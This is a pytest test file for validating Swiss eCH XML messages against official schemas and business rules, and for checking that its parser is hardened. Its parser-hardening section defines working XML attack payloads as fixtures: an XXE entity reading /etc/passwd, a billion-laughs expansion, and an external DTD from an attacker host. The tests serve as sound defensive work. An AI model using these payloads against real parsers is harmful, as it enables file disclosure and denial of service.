"""Validation of inbound eCH messages: the official XSDs (offline), hardened parsing (XXE, billion
laughs, depth, size) and the business rules, each finding named with its path."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from eakte.exchange import ech
from eakte.exchange.model import MessageRejection, RejectionCode
from eakte.exchange.parsing import parse_message
from eakte.exchange.schemas import ECH_0020_V3, ECH_0090_V1, ECH_0090_V2, REQUIRED_SCHEMAS, schema_dir, validate
from samples.events import event_person, person_event

ROOT = Path(__file__).resolve().parents[2]
SHARED = schema_dir() / "samples"
TODAY = date(2026, 11, 21)
MOVE_IN = (ROOT / "samples" / "messages" / "ech0020_move_in.xml").read_bytes()


def rejection(data: bytes, today: date = TODAY) -> MessageRejection:
    with pytest.raises(MessageRejection) as caught:
        root = parse_message(data)
        problems = validate(root, ECH_0020_V3)
        if problems:
            raise MessageRejection(RejectionCode.SCHEMA_INVALID, problems[0].path, problems[0].message)
        ech.check_business_rules(root, today)
        ech.read_event(root)
    return caught.value


def test_every_needed_official_schema_is_there() -> None:
    assert all((schema_dir() / name).is_file() for name in REQUIRED_SCHEMAS)


@pytest.mark.parametrize(("path", "schema"), [
    (ROOT / "samples" / "messages" / "ech0020_move_in.xml", ECH_0020_V3),
    (ROOT / "samples" / "messages" / "ech0090_envelope.xml", ECH_0090_V2),
    (SHARED / "constructed_eCH-0020-3-0_changeResidencePermit.xml", ECH_0020_V3),
    (SHARED / "constructed_eCH-0090-2-0_envelope.xml", ECH_0090_V2),
    (SHARED / "envl_eaaafa0a-aa12-4ca8-9fde-00a194b6fd0d.xml", ECH_0090_V1),
])
def test_sample_messages_validate(path: Path, schema: str) -> None:
    assert validate(parse_message(path.read_bytes()), schema) == []


def test_valid_events_pass_the_business_rules_and_name_their_person() -> None:
    for seq in range(3):
        root = parse_message(person_event(event_person(3), seq))
        assert validate(root, ECH_0020_V3) == []
        ech.check_business_rules(root, TODAY)
        event = ech.read_event(root)
        assert event.person.vn == event_person(3).ahv
        assert event.event == ("moveIn" if seq == 0 else "changeResidencePermit")
    event = ech.read_event(parse_message(MOVE_IN))
    assert (event.person.official_name, event.person.birth_date, event.person.nationality_iso2) == \
        ("Al Hassan", date(1991, 3, 14), "SY")


def test_schema_violation_names_the_element() -> None:
    found = rejection(MOVE_IN.replace(b"<eCH-0011:residencePermit>02<", b"<eCH-0011:residencePermit>99<"))
    assert found.code is RejectionCode.SCHEMA_INVALID
    assert "residencePermit" in found.path and "99" in found.detail
    missing = rejection(MOVE_IN.replace(b"<eCH-0044:officialName>Al Hassan</eCH-0044:officialName>", b""))
    assert missing.code is RejectionCode.SCHEMA_INVALID and "personIdentification" in missing.path


def test_wrong_ahv_check_digit_is_a_named_business_rule() -> None:
    found = rejection(MOVE_IN.replace(b"7563047592165", b"7563047592166"))
    assert (found.code, found.rule) == (RejectionCode.BUSINESS_RULE, "ahv_check_digit")
    assert found.path.endswith("eCH-0044:vn")


def test_birth_date_in_the_future_is_refused() -> None:
    found = rejection(MOVE_IN.replace(b"1991-03-14", b"2027-03-14"))
    assert found.rule == "date_not_in_future" and "dateOfBirth" in found.path


def test_permit_validity_must_be_in_order() -> None:
    found = rejection(MOVE_IN.replace(b"<eCH-0011:residencePermitValidTill>2026-03-01",
                                      b"<eCH-0011:residencePermitValidTill>2024-03-01"))
    assert found.rule == "date_range_order" and "residencePermitValidTill" in found.path


def test_arrival_before_birth_is_refused() -> None:
    data = MOVE_IN.replace(b"<eCH-0020:arrivalDate>2025-03-02", b"<eCH-0020:arrivalDate>1990-01-01")
    assert rejection(data).rule == "date_range_order"


def test_unknown_message_type_is_refused() -> None:
    found = rejection(MOVE_IN.replace(b"<eCH-0058:messageType>2020<", b"<eCH-0058:messageType>2021<"))
    assert found.rule == "known_message_type"


def test_unsupported_event_is_refused() -> None:
    data = (SHARED / "constructed_eCH-0020-3-0_changeResidencePermit.xml").read_bytes()
    root = parse_message(data)
    ech.event_element(root).tag = "{http://www.ech.ch/xmlns/eCH-0020/3}keyExchange"
    with pytest.raises(MessageRejection) as caught:
        ech.read_event(root)
    assert caught.value.code is RejectionCode.UNSUPPORTED_MESSAGE


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<eCH-0020:delivery xmlns:eCH-0020="http://www.ech.ch/xmlns/eCH-0020/3">&xxe;</eCH-0020:delivery>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<eCH-0020:delivery xmlns:eCH-0020="http://www.ech.ch/xmlns/eCH-0020/3">&lol9;</eCH-0020:delivery>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">
<eCH-0020:delivery xmlns:eCH-0020="http://www.ech.ch/xmlns/eCH-0020/3"/>"""


@pytest.mark.parametrize("data", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_dtds_and_entities_are_refused_without_expansion_or_fetching(data: bytes) -> None:
    # the unit tests' network guard would raise if anything were fetched
    with pytest.raises(MessageRejection) as caught:
        parse_message(data)
    assert caught.value.code is RejectionCode.DTD_FORBIDDEN
    assert b"root:" not in str(caught.value).encode()


def test_deep_nesting_and_size_are_limited() -> None:
    deep = b"<a>" * 100 + b"</a>" * 100
    with pytest.raises(MessageRejection) as caught:
        parse_message(deep)
    assert caught.value.code is RejectionCode.TOO_DEEP
    with pytest.raises(MessageRejection) as caught:
        parse_message(b"<a>" + b" " * 2000 + b"</a>", max_bytes=1000)
    assert caught.value.code is RejectionCode.TOO_LARGE
    with pytest.raises(MessageRejection) as caught:
        parse_message(b"<a><b></a>")
    assert caught.value.code is RejectionCode.MALFORMED_XML


def test_forwarded_message_envelope_and_receipt_are_valid_against_the_official_schemas() -> None:
    now = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
    inbound = parse_message(MOVE_IN)
    forward = parse_message(ech.build_forward(inbound, "11111111-2222-3333-4444-555555555555", "T2-ZH-7",
                                              "T4-999999-1", now))
    assert validate(forward, ECH_0020_V3) == []
    header = {el.tag.split("}")[1]: el.text for el in forward.find(f"{{{ech.E20}}}deliveryHeader")}
    assert header["senderId"] == "T2-ZH-7" and header["originalSenderId"] == "T3-230-1"
    assert header["recipientId"] == "T4-999999-1"
    assert header["referenceMessageId"] == "2ad11a38-81f2-51b2-b5ee-59275a59b404"
    assert ech.read_event(forward).person == ech.read_event(inbound).person  # the event is unchanged
    envelope = parse_message(ech.build_envelope("11111111-2222-3333-4444-555555555555", "2020", "T2-ZH-7",
                                                "T4-999999-1", now, now, "2ad11a38-81f2-51b2-b5ee-59275a59b404"))
    assert validate(envelope, ECH_0090_V2) == []
    receipt = parse_message(ech.build_receipt("m-1", "2020", "T4-999999-1", "T2-ZH-7", 311, "x" * 400, now))
    assert validate(receipt, ECH_0090_V2) == []
    assert ech.read_receipt(receipt) == ("m-1", 311, "x" * 255)
